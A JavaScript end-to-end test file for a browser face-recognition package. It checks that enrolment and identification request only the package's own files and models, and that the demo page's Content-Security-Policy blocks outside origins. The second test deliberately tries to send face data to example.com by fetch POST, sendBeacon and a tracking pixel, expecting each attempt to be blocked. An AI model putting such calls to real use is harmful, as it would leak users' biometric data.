// Privacy, in headless Chromium: the npm package requests nothing but its own files and models while it
// detects, enrols, identifies and manages the gallery; the demo page's Content-Security-Policy allows no
// connection to any other origin. Run: node --test tests/e2e/   (after scripts/build-web.sh)
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { FACES, haveFaces, serve, launch } from './lib.mjs';

let server;
before(async () => { server = await serve(); });
after(() => server && server.stop());

test('the package requests only its own files and models', { timeout: 300000 }, async (t) => {
  if (!haveFaces()) return t.skip('no shared photos');
  const context = await launch({});
  try {
    const requests = [];
    context.on('request', (r) => requests.push(r.url()));
    const page = await context.newPage();
    await page.goto(server.url + '/style.css');
    const photo = [...readFileSync(join(FACES, 'emotions-a/a1.jpg'))];
    const result = await page.evaluate(async (photo) => {
      const { default: init, Recognizer } = await import('/pkg/index.js');
      await init();
      const r = await Recognizer.create({ gallery: 'privacy-test' });
      const bitmap = await createImageBitmap(new Blob([new Uint8Array(photo)], { type: 'image/jpeg' }));
      await r.enroll('Ada', bitmap);
      const faces = await r.identify(bitmap);
      const file = r.gallery.export();
      await r.gallery.import(file);
      await r.gallery.remove('Ada');
      return faces.map((f) => f.name);
    }, photo);
    assert.deepEqual(result, ['Ada']);
    const own = /^\/(style\.css|pkg\/(index\.js|guard\.js|worker-client\.js|snippets\/[\w./-]+\.js|localface\.js|localface(_relaxed)?_bg\.wasm|models\/[\w.]+\.tflite))$/;
    const foreign = requests.filter((u) => new URL(u).origin !== server.url || !own.test(new URL(u).pathname));
    assert.deepEqual(foreign, [], 'requests other than the package and its models');
    assert.ok(requests.some((u) => u.endsWith('.tflite')), 'the models were fetched');
  } finally {
    await context.close();
  }
});

test('the demo page\'s Content-Security-Policy blocks every other origin', { timeout: 120000 }, async () => {
  const context = await launch({});
  try {
    const page = await context.newPage();
    const response = await page.goto(server.url + '/');
    const csp = response.headers()['content-security-policy'];
    assert.match(csp, /default-src 'self'/);
    assert.match(csp, /connect-src 'self'/);
    const attempts = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const tries = {
        fetch: () => fetch('https://example.com/upload', { method: 'POST', body: 'face' }),
        beacon: async () => { if (navigator.sendBeacon('https://example.com/b', 'face')) throw new Error('sent'); },
        image: () => new Promise((resolve, reject) => {
          const img = new Image();
          img.onload = resolve;
          img.onerror = () => reject(new Error('blocked'));
          img.src = 'https://example.com/pixel.png';
        }),
      };
      const out = {};
      for (const [name, attempt] of Object.entries(tries)) {
        try { await attempt(); out[name] = 'sent'; } catch { out[name] = 'blocked'; }
      }
      await new Promise((r) => setTimeout(r, 200));
      return { out, violations };
    });
    assert.deepEqual(attempts.out, { fetch: 'blocked', beacon: 'blocked', image: 'blocked' });
    assert.ok(attempts.violations.includes('connect-src'), JSON.stringify(attempts.violations));
  } finally {
    await context.close();
  }
});
